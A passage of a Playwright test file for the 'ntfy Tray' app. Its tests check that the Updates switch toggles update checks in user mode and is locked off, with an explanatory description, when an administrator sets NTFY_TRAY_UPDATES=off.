  await expect(updates.getByRole('switch')).toHaveCount(0);
});

test('where the user decides, the Updates switch turns checks off and on', async ({ page }) => {
  await restartWith('user');
  await openSettings(page);
  const updates = group(page, 'Updates');
  const check = updates.getByRole('switch', { name: 'Check for new versions' });
  await expect(check).toBeChecked();
  await expect(check).toBeEnabled();
  await expect(updates.getByText('This build does not check for updates.')).toHaveCount(0);

  await check.click();
  await expectCore((s) => s.preferences.checkForUpdates, false);
  await expect(updates.getByRole('status')).toHaveText('Saved');
  await expect(check).not.toBeChecked();
  await check.click();
  await expectCore((s) => s.preferences.checkForUpdates, true);
});

test('NTFY_TRAY_UPDATES=off: the switch shows off, cannot be changed, and says the administrator set it', async ({
  page,
}) => {
  await restartWith('administrator-off');
  await openSettings(page);
  const updates = group(page, 'Updates');
  const check = updates.getByRole('switch', { name: 'Check for new versions' });
  await expect(check).not.toBeChecked();
  await expect(check).toBeDisabled();
  await expect(check).toHaveAccessibleDescription(
    'Turned off by your administrator (NTFY_TRAY_UPDATES=off): ntfy Tray does not check for new versions.',
  );
  // The user's own choice is kept for when the administrator lifts it.
  expect((await coreSettings()).preferences.checkForUpdates).toBe(true);
});
